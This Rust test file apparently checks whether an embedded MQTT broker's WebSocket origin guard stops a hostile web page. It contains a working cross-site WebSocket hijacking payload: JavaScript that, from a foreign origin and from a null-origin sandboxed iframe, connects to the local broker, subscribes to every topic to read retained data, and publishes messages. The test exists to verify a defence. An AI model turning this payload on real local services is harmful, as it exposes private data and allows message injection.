//! What pages of an attacker reach of the embedded broker, over WebSocket.

use std::net::{Ipv4Addr, SocketAddr};

use suite::{Admits, Broker, WebSockets, admits_own_pages};

use super::chromium::visit;
use crate::attack::{Guard, Tries};
use crate::harness::raw_mqtt::{Connect, Connection, Endpoint, Transport, Version};

const LOCAL: SocketAddr = SocketAddr::new(std::net::IpAddr::V4(Ipv4Addr::LOCALHOST), 0);
/// What the page looks for: a retained message, as a charger leaves it.
const SECRET: (&str, &str) =
    ("carros/ABC1234/status", "what a page of another origin must not see");
const PUBLISHED: &str = "pontos/11/disponibilidade";

/// The page, and a frame in it that has no origin, each try every spelling of the address. `report`
/// has what each of them received.
fn page(port: u16) -> String {
    let attempt = format!(
        "const text = (value) => {{ const bytes = new TextEncoder().encode(value);
            return [bytes.length >> 8, bytes.length & 255, ...bytes]; }};
        const packet = (kind, ...body) => new Uint8Array([kind, body.length, ...body]);
        const attempt = (host, who) => new Promise((done) => {{
            const socket = new WebSocket(`ws://${{host}}:{port}/mqtt`, 'mqtt');
            let seen = '';
            socket.binaryType = 'arraybuffer';
            socket.onerror = () => done('refused');
            socket.onopen = () => socket.send(packet(0x10, ...text('MQTT'), 4, 2, 0, 60, ...text(who)));
            socket.onmessage = (event) => {{
                const bytes = new Uint8Array(event.data);
                seen += new TextDecoder().decode(bytes);
                if (bytes[0] === 0x20) {{
                    socket.send(packet(0x82, 0, 1, ...text('#'), 0));
                    socket.send(packet(0x30, ...text('{PUBLISHED}'), ...new TextEncoder().encode(who)));
                    setTimeout(() => done(seen), 3000);
                }}
            }};
        }});
        const all = (origin) => Promise.all(['127.0.0.1', 'localhost'].map(async (host) =>
            [`${{origin}} to ${{host}}`, await attempt(host, `${{origin}} to ${{host}}`)]));"
    );
    let framed = format!(
        "<script>{attempt} all('null').then((report) => parent.postMessage(report, '*'));</script>"
    );
    let framed = serde_json::to_string(&framed).expect("a string").replace("</", "<\\/");
    format!(
        "<!doctype html><title>an app</title><body><script type=module>
        {attempt}
        const framed = new Promise((done) => onmessage = (event) => done(event.data));
        const frame = document.createElement('iframe');
        frame.sandbox = 'allow-scripts';
        frame.srcdoc = {framed};
        document.body.append(frame);
        const report = Object.fromEntries([...await all('foreign'), ...await framed]);
        await fetch('/report', {{method: 'POST', body: JSON.stringify(report)}});
        </script>"
    )
}

/// Somebody opens a page of the attacker's while `cargo run` is up.
pub(crate) async fn web_page_drives_the_embedded_broker(guard: Guard) -> Tries {
    let broker = Broker::start(LOCAL, None).await.expect("a broker");
    let admits: Admits = if guard.is_removed() { |_, _| true } else { admits_own_pages };
    let listener = tokio::net::TcpListener::bind(LOCAL).await.expect("a port");
    let sockets = WebSockets::start(listener, broker.addr(), admits).expect("it listens");
    let version = Version::V311;
    let inside = Endpoint { port: broker.addr().port(), transport: Transport::Tcp, version };
    let mut listens =
        Connection::open(inside, &Connect::anonymous("listens")).await.expect("it is let in");
    listens.publish(&[SECRET], true).await;
    listens.subscribe(&[PUBLISHED]).await;

    let report = visit(page(sockets.addr().port())).await;

    let published = listens.drain().await.expect("a connection");
    let mut tries = Tries::default();
    for origin in ["foreign", "null"] {
        for host in ["127.0.0.1", "localhost"] {
            let who = format!("{origin} to {host}");
            let seen = report[&who].as_str().expect("a report");
            tries.record(format!("{who}: reads"), seen.contains(SECRET.1));
            let got_through = published.iter().any(|message| message.payload == who);
            tries.record(format!("{who}: publishes"), got_through);
        }
    }
    tries
}
